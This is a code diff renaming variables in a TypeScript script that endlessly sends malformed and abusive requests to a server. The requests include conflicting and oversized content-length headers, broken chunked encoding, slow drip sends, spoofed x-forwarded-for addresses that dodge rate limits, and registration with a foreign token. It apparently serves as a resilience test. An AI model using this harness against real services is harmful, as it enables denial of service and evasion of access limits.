@@ -2,12 +2,12 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { encode } from '@amber/proto/codec';
 import { connect } from './client.ts';
-import { openRaw } from './raw.ts';
+import { openRaw } from './openRaw.ts';
 
 const [, , url = '', token = ''] = process.argv;
 const megabyte = 1_048_576;
 /** Ten calls a second: a network's limit without a session. */
-const every = 100;
+const attackInterval = 100;
 
 let last = 0;
 const address = () => `203.0.113.${(last += 1) % 250}`;
@@ -31,20 +31,20 @@ const head = (path: string, ...headers: string[]) => [
 ];
 
 /** Keeps a connection open for a while. */
-async function left(request: { end(): void; closed: Promise<void> }): Promise<void> {
+async function holdOpen(request: { end(): void; closed: Promise<void> }): Promise<void> {
   await Promise.race([request.closed, sleep(3_000)]);
   request.end();
 }
 
-async function register(given: string): Promise<void> {
+async function register(sessionToken: string): Promise<void> {
   const socket = await connect({ url }, { headers: { 'x-forwarded-for': address() } });
   await socket
-    .register({ tokens: { token: given, refreshToken: '', identifier: '' }, deviceId: 'd' })
+    .register({ tokens: { token: sessionToken, refreshToken: '', identifier: '' }, deviceId: 'd' })
     .catch(() => undefined);
   socket.close();
 }
 
-const kinds: Record<string, () => Promise<void>> = {
+const attacks: Record<string, () => Promise<void>> = {
   emptyFields: () => post('/message/sync', filled(10, 0)),
   emptyFieldsWhereNoSessionIsNeeded: () => post('/rollout/report', filled(10, 0)),
   emptyFieldsWithinAStrangersBody: () => post('/rollout/report', filled(10, 0).subarray(0, 13_000)),
@@ -56,15 +56,15 @@ const kinds: Record<string, () => Promise<void>> = {
   tooShort: async () => {
     const request = openRaw(url, ...head('/login', 'content-length: 10'));
     request.send(filled(10, 0));
-    await left(request);
+    await holdOpen(request);
   },
-  tooLong: () => left(openRaw(url, ...head('/login', 'content-length: 1000000000000000'))),
-  twoLengths: () => left(openRaw(url, ...head('/login', 'content-length: 10', 'content-length: 20'))),
+  tooLong: () => holdOpen(openRaw(url, ...head('/login', 'content-length: 1000000000000000'))),
+  twoLengths: () => holdOpen(openRaw(url, ...head('/login', 'content-length: 10', 'content-length: 20'))),
   badChunks: async () => {
     const request = openRaw(url, ...head('/message/sync', 'transfer-encoding: chunked'));
     for (let chunks = 0; chunks < 16; chunks += 1) request.send(`10000\r\n${'x'.repeat(65_536)}\r\n`);
     request.send('zz\r\n');
-    await left(request);
+    await holdOpen(request);
   },
   drip: async () => {
     const request = openRaw(url, ...head('/getSms', 'content-length: 1000'));
@@ -72,7 +72,7 @@ const kinds: Record<string, () => Promise<void>> = {
       request.send('x');
       await sleep(300);
     }
-    await left(request);
+    await holdOpen(request);
   },
   unsignedUpload: async () => {
     const request = openRaw(
@@ -83,7 +83,7 @@ const kinds: Record<string, () => Promise<void>> = {
       'content-length: 500000',
     );
     request.send('x');
-    await left(request);
+    await holdOpen(request);
   },
   badRegister: () => register('wrong'),
   foreignRegister: () => register(token),
@@ -100,11 +100,11 @@ const attempt = (kind: () => Promise<void>) => {
   void kind().catch(() => undefined);
 };
 
-const all = Object.values(kinds);
+const all = Object.values(attacks);
 for (let round = 0; ; round += 1) {
   for (const kind of all) {
     attempt(kind);
-    await sleep(every);
+    await sleep(attackInterval);
   }
   console.log(`round ${round}`);
 }
